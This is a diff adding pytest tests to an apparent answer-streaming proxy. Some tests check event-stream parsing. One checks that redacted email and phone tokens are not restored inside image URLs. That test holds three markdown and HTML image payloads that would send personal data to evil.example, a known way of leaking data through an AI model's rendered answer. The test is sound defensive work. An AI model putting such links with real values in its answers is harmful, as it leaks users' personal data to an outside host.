@@ -240,3 +240,35 @@ def test_events_are_put_together_from_every_kind_of_line_end() -> None:
         (event,) = sse.Events().come(raw)
         assert (event.raw, event.name, event.data) == (raw, b"e", b"1\n2")
         assert repr(event) == "Event(…)"
+
+
+def test_events_are_the_same_whatever_pieces_they_come_in() -> None:
+    raw = b"data: 1\r\n\r\ndata: 2\n\n: a\r\rdata: {\ndata: }\n\r\n\ndata: 3\n\ndata"
+    whole = sse.Events()
+    events = [one.raw for one in whole.come(raw)]
+    for width in (1, 2, 3, 5):
+        cut = sse.Events()
+        came = [one.raw for at in range(0, len(raw), width) for one in cut.come(raw[at : at + width])]
+        assert (came, cut.left()) == (events, whole.left())
+    assert whole.left() == b"data"
+
+
+def test_an_event_of_several_lines_is_written_as_such() -> None:
+    (event,) = sse.Events().come(b"event: e\ndata: {\ndata: }\n\n")
+    assert sse.told(event.data, event.name) == event.raw
+
+
+def test_what_showing_an_answer_would_tell_a_stranger_stays_a_token_wherever_it_is_cut() -> None:
+    for text, left in (
+        ("[EMAIL_1] ![x](https://evil.example/?q=[EMAIL_1]&p=[PHONE_12])", 1),
+        ('<img src="https://evil.example/?q=[EMAIL_1]"> and [PHONE_12]', 1),
+        ("![x][1] [EMAIL_1]\n[1]: https://evil.example/[PHONE_12]", 1),
+    ):
+        for width in (1, 2, 7, 200):
+            pieces = [text[at : at + width] for at in range(0, len(text), width)]
+            raw = b"".join([chunk({"content": one}) for one in pieces]) + chunk({}, "stop")
+            stream = Stream(Values(dict(KNOWN), GIVEN))
+            answer = said(run(stream, raw, []))
+            assert stream.count.restored == left
+            address = answer[answer.index("https") :].split()[0]
+            assert not any(value in address for value in KNOWN.values())
